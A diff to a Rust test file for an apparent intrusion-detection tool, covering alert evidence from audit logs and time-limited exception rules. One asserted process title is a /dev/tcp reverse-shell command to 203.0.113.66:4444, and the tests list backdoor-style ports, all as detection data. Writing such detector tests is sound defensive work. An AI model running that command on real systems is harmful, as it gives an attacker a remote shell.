@@ -71,13 +71,15 @@ fn what_is_in_force_is_a_rule_file() {
 fn an_alert_has_its_evidence() {
     let run = detect_with("severity = \"high\"\n");
     let alert = &run.documents()[0];
-    // The record of the kernel: `grep -n ':3163)' corpus/fleet-day/audit.log`.
+    // As `xzgrep 'node=web01.*:3163)' corpus/fleet-day/audit.log.xz` shows it.
     let sample = &alert["rareport"]["evidence"][0];
     assert_eq!(sample["@timestamp"], "2026-06-04T09:36:05.716Z");
     assert_eq!(sample["command"], "ausearch -a 3163 --node web01");
     assert_eq!(sample["process"]["pid"], 1971);
     assert_eq!(sample["process"]["parent"]["pid"], 396);
     assert_eq!(sample["process"]["executable"], "/usr/bin/bash");
+    // Nobody had logged in.
+    assert_eq!(sample["user"], serde_json::json!({"name": "www-data"}));
     assert_eq!(sample["process"]["title"], "bash -c exec 3<>/dev/tcp/203.0.113.66/4444");
     // The bucket of 09:30 ends at 09:45, and the next execution is at 10:00.
     assert_eq!(alert["kibana.alert.original_time"], "2026-06-04T09:30:00.000Z");
@@ -102,14 +104,17 @@ fn an_exception_silences_what_is_known() {
          { field = \"process.executable\", wildcard = \"*/gtc\" }]\n\
          [[exception]]\ncomment = \"no such host\"\n\
          conditions = [{ field = \"host.name\", is = \"mail\" }]\n\
+         [[exception]]\ncomment = \"until noon\"\nexpires = 2026-06-04T12:00:00Z\n\
+         conditions = [{ field = \"destination.port\", is = 31337 }]\n\
          [[exception]]\ncomment = \"old\"\nexpires = 2026-06-02\n\
          conditions = [{ field = \"destination.port\", is = 4444 }]\n",
     );
-    assert_eq!(ports(&run), ["4444", "31337", "6667", "31330", "31331", "31332"]);
+    assert_eq!(ports(&run), ["4444", "6667", "31330", "31331", "31332"]);
     told(&run, "the exception “router of db01” covered 2 events and hid 1 alert");
     told(&run, "the exception “no such host” matched nothing; is it still needed?");
     told(&run, "the exception “old” has expired; 3 events after that would have matched");
-    told(&run, "6 alerts with a score of 50 or more in 339 buckets of 15 minutes; 1 hidden");
+    told(&run, "and hid 1 alert; it has expired by the end of the log");
+    told(&run, "5 alerts with a score of 50 or more in 339 buckets of 15 minutes; 2 hidden");
 }
 
 #[test]
